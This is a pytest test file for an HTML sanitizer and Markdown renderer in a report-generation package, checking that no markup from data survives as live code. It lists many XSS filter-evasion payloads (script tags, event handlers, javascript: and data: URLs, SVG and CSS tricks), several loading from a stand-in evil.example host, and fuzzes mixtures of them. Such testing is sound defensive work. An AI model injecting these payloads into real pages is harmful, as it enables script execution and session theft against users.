"""HTML safe by construction (``cxtemplate.report.markup``): the allowlist cleaner, links into the report only,
and sentences' Markdown rendered as nbconvert renders it (the reference: nbconvert's own ``markdown2html``)
with every raw tag from a value shown as text.

The payloads are the standard families of OWASP's XSS filter evasion cheat sheet: script elements, event
handlers, ``javascript:`` URLs (also entity-encoded, mixed case, split by a tab), elements that end a raw-text
context (``</textarea>``, ``</style>``), nested and malformed tags, comments and CDATA.
"""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest

from cxtemplate.report.markup import ALLOWED_TAGS, SVG_CHILDREN, attribute, clean_html, is_own_link, markdown_html, text

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=x></object><embed src=x>",
    "<body onload=alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div onclick=alert(1) class=cx-note>x</div>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)",  # unterminated
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
]


class Elements(HTMLParser):
    """Every element and attribute of a fragment as a browser-like tokenizer reads it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(fragment: str) -> list[tuple[str, dict]]:
    p = Elements()
    p.feed(fragment)
    p.close()
    return p.found


def live(fragment: str) -> list[str]:
    """What in ``fragment`` could run, load or navigate away (empty when nothing)."""
    problems = []
    for tag, attrs in elements(fragment):
        if tag not in ALLOWED_TAGS:
            problems.append(tag)
        for name, value in attrs.items():
            if name.startswith("on") or name in ("src", "style", "srcset", "action", "data", "http-equiv"):
                problems.append(f"{tag}.{name}")
            if name == "href" and re.match(r"\s*([a-z][a-z0-9+.-]*:|//)", value or "", re.I):
                problems.append(f"{tag}.href={value}")
    return problems


# --------------------------------------------------------------------------- escaping and links


def test_text_and_attribute_escape_what_would_be_markup():
    assert text("<b>A & B</b>") == "&lt;b&gt;A &amp; B&lt;/b&gt;"
    assert text("O'Brien \"quoted\"") == "O'Brien \"quoted\""  # quotes are text in an element
    assert attribute('x" onmouseover="alert(1)') == "x&quot; onmouseover=&quot;alert(1)"
    assert text(12.5) == "12.5" and text(None) == "None"


@pytest.mark.parametrize("href", ["#trends", "#Scorecard:-London", "pages/04.html", "../index.html",
                                  "../../index.html#x", "tables/a%20b.csv", "07.pdf?page=2"])
def test_links_into_the_report_are_its_own(href):
    assert is_own_link(href)


@pytest.mark.parametrize("href", ["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)",
                                  "java\tscript:alert(1)", "java\nscript:x", "\x01javascript:x", "vbscript:x",
                                  "data:text/html,<script>alert(1)</script>", "https://evil.example", "http:x",
                                  "//evil.example/x", "/etc/passwd", "\\\\evil\\share", "file:///etc/passwd",
                                  "", None, "mailto:a@b.c"])
def test_any_scheme_host_or_absolute_path_is_not_a_link_of_the_report(href):
    assert not is_own_link(href)


# --------------------------------------------------------------------------- the cleaner


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_the_cleaner_as_markup(payload):
    cleaned = clean_html(f'<p class="cx-note">before {payload} after</p>')
    assert live(cleaned) == [], cleaned
    assert "before" in cleaned and "after" in cleaned or "<!--" in payload or "CDATA" in payload or "style" in payload


def test_a_disallowed_tag_is_shown_as_the_text_it_was():
    assert clean_html("Hi <img src=x onerror=alert(1)>!") == "Hi &lt;img src=x onerror=alert(1)&gt;!"
    assert clean_html("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"


def test_allowed_tags_keep_only_their_allowed_attributes():
    assert clean_html('<span class="cx-note" onclick="x()" style="color:red" title="t">n</span>') == \
        '<span class="cx-note">n</span>'
    assert clean_html('<a href="javascript:alert(1)" class="x">a</a><a href="#ok">b</a>') == \
        '<a class="x">a</a><a href="#ok">b</a>'
    assert clean_html('<ol start="3"><li>x</li></ol><ol start="3 onload=x"><li>y</li></ol>') == \
        '<ol start="3"><li>x</li></ol><ol><li>y</li></ol>'
    assert clean_html('<th colspan="2" scope="col" id="T_a_level0_col0" class="col_heading level0">H</th>') == \
        '<th colspan="2" scope="col" id="T_a_level0_col0" class="col_heading level0">H</th>'


def test_attribute_values_are_requoted_and_escaped():
    assert clean_html("<p class=cx-note id='a\"b'>x</p>") == '<p class="cx-note" id="a&quot;b">x</p>'
    assert clean_html('<p class="ok <bad> cx-x">x</p>') == '<p class="ok cx-x">x</p>'


def test_text_is_escaped_and_entities_stay_text():
    assert clean_html("a < b & c > d") == "a &lt; b &amp; c &gt; d"
    assert clean_html("&lt;script&gt;alert(1)&lt;/script&gt;") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert clean_html("Smith &amp; Sons — O'Brien") == "Smith &amp; Sons — O'Brien"


def test_a_style_element_keeps_a_tables_own_rules_only():
    rules = ("\n#T_ab_row0_col1, #T_ab_row1_col1 {\n  text-align: right;\n  white-space: nowrap;\n}\n"
             "#T_ab th.col1 {\n  text-align: right;\n}\n")
    assert clean_html(f'<style type="text/css">{rules}</style>') == f'<style type="text/css">{rules}</style>'
    for css in ("#T_a td{background:url(https://evil.example/x)}", "@import 'x.css';", "#T_a{b:expression(alert(1))}",
                "#T_a{background:u\\72l(x)}", "body{display:none}", "#T_a td{x:y} p{display:none}",
                "#T_a td, body{display:none}", "#T_a td{x:y} stray"):
        assert clean_html(f"<style>{css}</style>") == "<style></style>", css


def test_what_a_fragment_leaves_open_is_closed_and_stray_end_tags_go():
    assert clean_html("<div><table><tr><td>x") == "<div><table><tr><td>x</td></tr></table></div>"
    assert clean_html("</div></p>text</span>") == "text"
    assert clean_html("<p><strong>a</p>b") == "<p><strong>a</strong></p>b"


def test_comments_declarations_and_processing_instructions_are_dropped():
    assert clean_html("a<!-- <img src=x onerror=alert(1)> -->b<!DOCTYPE html><?php x ?>c") == "abc"


def test_cleaning_is_idempotent_and_keeps_a_styled_table_as_it_is():
    table = ('<div class="cx-table-wrap"><style type="text/css">\n#T_x th.col1 {\n  text-align: right;\n}\n</style>'
             '<table id="T_x" class="cx-table"><caption>NPS &amp; CSAT by &lt;location&gt;</caption><thead><tr>'
             '<th id="T_x_level0_col0" class="col_heading level0 col0">Location</th></tr></thead><tbody><tr>'
             '<td id="T_x_row0_col0" class="data row0 col0">&lt;script&gt;alert(1)&lt;/script&gt;</td></tr>'
             '</tbody></table></div><section class="cx-cards" aria-label="Headline numbers">'
             '<div class="cx-card"><div class="cx-k">NPS</div></div></section>')
    assert clean_html(table) == table
    for payload in PAYLOADS:
        once = clean_html(payload)
        assert clean_html(once) == once, payload


def test_random_mixtures_of_payloads_never_leave_live_markup():
    """Seeded fuzzing: concatenations and truncations of payload pieces, attribute and tag boundaries."""
    pieces = [*PAYLOADS, "<", ">", '"', "'", "=", "/", "<p", "<a href=", "javascript:", "onerror=",
              "<span class='cx-note'>", "</span>", "**", "&#", "&#x3c;", "<style>", "</style>", "<!--", "-->", "\t", "\n"]
    rng = random.Random(14)
    hostile = 0
    for _ in range(400):
        fragment = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 8)))
        fragment = fragment[: rng.randint(1, len(fragment))]
        hostile += bool(live(fragment))
        assert live(clean_html(fragment)) == [], fragment
    assert hostile > 100  # the mixtures are live markup before cleaning


# --------------------------------------------------------------------------- sentences


def nbconvert_html(markdown: str) -> str:
    """How nbconvert renders a Markdown output (the page's renderer before sentences became HTML)."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return markdown2html_mistune(markdown)


@pytest.mark.parametrize("markdown", [
    "NPS rose by **4 points** (95% CI 1 to 7).",
    "*There are no conversation records — contact analytics are skipped*",
    "**18 touchpoints** are surveyed; 4 of them collect fewer than 30 responses.",
    "Notes: 'segment' has a single level (Consumer) and was dropped.",
    "The gap is 0.7 levels. <span class='cx-note'>Welch's t-test, n = 13.</span>",
    "# Scorecard: London",
    "First paragraph.\n\nSecond, with *emphasis* and ~~a strike~~.",
])
def test_sentences_render_as_nbconvert_renders_them(markdown):
    assert markdown_html(markdown) == clean_html(nbconvert_html(markdown))


def test_a_heading_gets_the_id_and_hidden_anchor_nbconvert_gives_it():
    assert markdown_html("# Scorecard: St Albans") == (
        '<h1 id="Scorecard:-St-Albans">Scorecard: St Albans<a class="anchor-link" href="#Scorecard:-St-Albans">¶</a>'
        "</h1>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_raw_html_in_a_sentence_is_shown_as_text(payload):
    out = markdown_html(f"The comment was **{payload}** <span class='cx-note'>(redacted: {payload})</span>")
    assert live(out) == [], out
    assert '<strong>' in out and '<span class="cx-note">' in out
    assert "<script" not in out and "<img" not in out and "<svg" not in out


def test_a_sentence_shows_a_tag_from_a_value_literally():
    assert markdown_html("Owner: <b>Ann</b> & co") == "<p>Owner: &lt;b&gt;Ann&lt;/b&gt; &amp; co</p>\n"
    assert markdown_html("Agent AG-01<img src=x onerror=alert(1)>") == \
        "<p>Agent AG-01&lt;img src=x onerror=alert(1)&gt;</p>\n"


def test_markdown_links_and_images_from_a_value_cannot_leave_the_report():
    out = markdown_html("[click](javascript:alert(1)) [x](https://evil.example) ![t](https://evil.example/t.png) "
                        "<https://evil.example> https://evil.example")
    assert live(out) == [] and "<img" not in out
    assert 'href="javascript' not in out and 'href="https' not in out


def test_the_package_notes_keep_working_and_only_they():
    assert markdown_html("a <span class='cx-note'>b</span> <span class=\"cx-warning\">c</span>") == \
        '<p>a <span class="cx-note">b</span> <span class="cx-warning">c</span></p>\n'
    assert markdown_html("<span class='note' onclick=x>b</span>") == \
        "<p>&lt;span class='note' onclick=x&gt;b</p>\n"


# --------------------------------------------------------------------------- method notes and sparklines


def test_the_method_note_passes_as_a_collapsible_details_element():
    note = ('<details class="cx-method"><summary>How this was measured</summary>'
            "<p>Shapley/LMG shares of R², Benjamini–Hochberg adjusted.</p></details>")
    assert clean_html(note) == note
    assert clean_html('<details open ontoggle="alert(1)" class="cx-method"><summary onclick=x>H</summary></details>') \
        == '<details class="cx-method"><summary>H</summary></details>'


def test_a_cards_sparkline_passes_as_it_is_written():
    from cxtemplate.plan.sparkline import sparkline_label, sparkline_svg

    svg = sparkline_svg([74.0, 71.5, None, 66.0, 62.0],
                        sparkline_label('CSAT <script>"x"</script>', [74.0, 71.5, None, 66.0, 62.0],
                                        ["2025-08", "2025-09", "2025-10", "2025-11", "2025-12"]))
    assert clean_html(svg) == svg
    assert 'viewBox="0 0 120 28"' in svg and 'role="img"' in svg and "<script" not in svg
    line = ('<svg role="img" aria-label="NPS" viewBox="0 0 10 10" width="10" height="10"><title>NPS trend</title>'
            '<line x1="0" y1="5" x2="10" y2="5.5" stroke="#999" stroke-width="1"></line>'
            '<circle cx="1" cy="-2.5" r="1" fill="none" stroke="currentColor"></circle></svg>')
    assert clean_html(line) == line


SVG_PAYLOADS = [
    '<svg onload="alert(1)"><circle cx="1" cy="1" r="1"></circle></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a href="javascript:alert(1)"><circle r="5"></circle></a></svg>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
    '<svg><image href="https://evil.example/t.png"></image></svg>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"></set></svg>',
    '<svg><circle cx="1" fill="url(https://evil.example/#g)" stroke="url(#g)" style="x" onclick="alert(1)"></circle></svg>',
    '<svg><polyline points="1,2 javascript:alert(1)" stroke-width="expression(alert(1))"></polyline></svg>',
    '<svg viewBox="0 0 1 1 onload=alert(1)" width="100%;background:url(x)" role="button"></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><svg onload=alert(1)></svg></svg>',
    '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
    '<circle cx="1" onload="alert(1)"></circle><title>outside</title>',
    '<math><mtext><svg><polyline points="1"></polyline></svg></mtext></math>',
]


@pytest.mark.parametrize("payload", SVG_PAYLOADS)
def test_no_hostile_svg_survives_the_cleaner(payload):
    cleaned = clean_html(f"<p>before {payload} after</p>")
    assert live(cleaned) == [], cleaned
    found = elements(cleaned)
    for tag, attrs in found:
        assert tag not in ("script", "a", "use", "image", "foreignobject", "animate", "set", "style", "img", "math")
        assert not any("url(" in (v or "") or "javascript" in (v or "") or "(" in (v or "") for v in attrs.values())
        assert set(attrs) <= ALLOWED_TAGS[tag] | {"class", "id"}, (tag, attrs)
    # an svg child only inside an svg, and inside an svg nothing else
    for tag, stack in opened_within(cleaned):
        assert (tag in SVG_CHILDREN) == ("svg" in stack), (tag, stack, cleaned)
    assert clean_html(cleaned) == cleaned


def opened_within(fragment: str) -> list[tuple[str, list[str]]]:
    """Each element of ``fragment`` with the elements open around it (as written: every element closed)."""

    class Stack(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.stack: list[str] = []
            self.seen: list[tuple[str, list[str]]] = []

        def handle_starttag(self, tag, attrs):
            self.seen.append((tag, list(self.stack)))
            if tag not in ("br", "hr"):
                self.stack.append(tag)

        def handle_endtag(self, tag):
            while self.stack and self.stack.pop() != tag:
                pass

    p = Stack()
    p.feed(fragment)
    return p.seen


def test_svg_elements_nest_only_where_svg_allows_them():
    assert clean_html('<circle cx="1"></circle>') == '&lt;circle cx="1"&gt;'
    assert clean_html('<svg><p>x</p><circle cx="1"/><circle cx="2"/></svg>') == \
        '<svg>&lt;p&gt;x<circle cx="1"></circle><circle cx="2"></circle></svg>'  # self-closed: siblings, not nested
    assert clean_html("<svg><title>a <b>b</b></title></svg>") == "<svg><title>a &lt;b&gt;b</title></svg>"
    assert clean_html("<svg><circle r=1>") == '<svg><circle r="1"></circle></svg>'  # closed at the end
